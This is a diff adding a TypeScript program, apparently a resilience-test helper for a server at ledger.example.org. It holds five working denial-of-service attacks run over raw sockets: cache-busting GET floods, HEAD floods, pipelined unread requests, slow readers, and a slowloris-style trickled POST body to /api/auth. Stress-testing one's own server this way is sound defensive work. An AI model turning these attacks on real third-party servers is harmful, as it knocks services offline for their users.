@@ -1,0 +1,123 @@
+import { once } from 'node:events'
+import { connect, type Socket } from 'node:net'
+import { setTimeout } from 'node:timers/promises'
+import { parseArgs } from 'node:util'
+
+/*
+ * A program that attacks a server in one of these ways, over sockets of its own, and prints what it got. It is a process
+ * of its own, so that who looks at the server meanwhile waits for the server and not for this.
+ */
+const { values, positionals } = parseArgs({
+  allowPositionals: true,
+  options: {
+    address: { type: 'string', default: '' },
+    path: { type: 'string', default: '/' },
+    many: { type: 'string', default: '1' },
+    seconds: { type: 'string', default: '1' },
+  },
+})
+const { hostname, port } = new URL(values.address)
+const { path } = values
+const many = Number(values.many)
+const seconds = Number(values.seconds)
+
+const open = async (): Promise<Socket> => {
+  const socket = connect(Number(port), hostname)
+  // To be cut off is what an attacker gets.
+  socket.on('error', () => {})
+  await Promise.race([once(socket, 'connect'), once(socket, 'close')]).catch(() => undefined)
+  return socket
+}
+
+const openAll = async (count: number): Promise<Socket[]> => {
+  const sockets: Socket[] = []
+  // Fewer at a time than a listener lets wait.
+  while (sockets.length < count)
+    sockets.push(...(await Promise.all(Array.from({ length: Math.min(100, count - sockets.length) }, open))))
+  return sockets
+}
+
+const ask = (method: string, target: string) =>
+  `${method} ${target} HTTP/1.1\r\nHost: ledger.example.org\r\n\r\n`
+
+/** Asks and waits for each answer, over fifty connections, which are made anew when the server ends them. */
+async function inTurn(method: string, targetOf: (index: number) => string): Promise<string> {
+  let asked = 0
+  let answered = 0
+  await Promise.all(
+    Array.from({ length: 50 }, async () => {
+      let socket = await open()
+      while (asked < many) {
+        const target = targetOf((asked += 1))
+        if (socket.destroyed || !socket.writable) socket = await open()
+        socket.write(ask(method, target))
+        if (await answerArrives(socket, method)) answered += 1
+      }
+      socket.destroy()
+    }),
+  )
+  return `${answered} answers`
+}
+
+async function answerArrives(socket: Socket, method: string): Promise<boolean> {
+  const { promise, resolve } = Promise.withResolvers<boolean>()
+  let received = Buffer.alloc(0)
+  const take = (part: Buffer) => {
+    received = Buffer.concat([received, part])
+    const head = received.indexOf('\r\n\r\n')
+    if (head < 0) return
+    const size = /\r\ncontent-length: (\d+)/i.exec(received.toString('latin1', 0, head))?.[1]
+    if (method === 'HEAD' || received.length >= head + 4 + Number(size)) resolve(true)
+  }
+  const lost = () => resolve(false)
+  socket.on('data', take).once('close', lost)
+  try {
+    return await promise
+  } finally {
+    socket.off('data', take).off('close', lost)
+  }
+}
+
+/** Holds this many connections, on which something is done each second, and counts those that are cut off. */
+async function hold(begin: (socket: Socket) => void, eachSecond: (socket: Socket) => void): Promise<string> {
+  const sockets = await openAll(many)
+  for (const socket of sockets) begin(socket)
+  for (let second = 0; second < seconds; second += 1) {
+    await setTimeout(1_000)
+    for (const socket of sockets) if (!socket.destroyed) eachSecond(socket)
+  }
+  const cut = sockets.filter(({ destroyed }) => destroyed).length
+  for (const socket of sockets) socket.destroy()
+  return `${cut} of ${many} cut off`
+}
+
+const FILLER = 'x'.repeat(1_000)
+
+const ATTACKS: Readonly<Record<string, () => Promise<string>>> = {
+  randomParameters: () =>
+    inTurn('GET', (index) => `${path}${path.includes('?') ? '&' : '?'}x=${index}${FILLER}`),
+  heads: () => inTurn('HEAD', () => path),
+  pipelinedUnread: () =>
+    hold(
+      (socket) => void socket.pause().write(ask('GET', path).repeat(20)),
+      () => {},
+    ),
+  slowReaders: () =>
+    hold(
+      (socket) => void socket.pause().write(ask('GET', path)),
+      (socket) => void socket.read(100),
+    ),
+  slowBodies: () =>
+    hold(
+      (socket) =>
+        void socket
+          .resume()
+          .write(
+            'POST /api/auth HTTP/1.1\r\nHost: ledger.example.org\r\nContent-Type: application/json\r\nContent-Length: 10000\r\n\r\n{',
+          ),
+      (socket) => void socket.write(' '),
+    ),
+}
+
+console.log(await ATTACKS[positionals[0] ?? '']?.())
+process.exit()
